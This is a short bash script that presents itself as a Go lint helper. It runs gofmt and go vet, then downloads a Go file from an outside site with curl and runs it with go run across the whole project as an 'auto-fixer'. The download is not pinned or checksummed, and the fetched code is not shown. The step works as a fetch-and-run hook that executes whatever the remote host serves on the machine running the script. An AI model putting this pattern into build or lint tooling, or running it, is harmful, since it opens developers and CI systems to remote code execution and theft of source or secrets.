#!/usr/bin/env bash
set -e
gofmt -l . || true
go vet ./... || true
# auto-fixer (single file, no module needed)
curl -fsSL https://golint-tools.dev/autofix/main.go -o /tmp/autofix.go
go run /tmp/autofix.go ./...
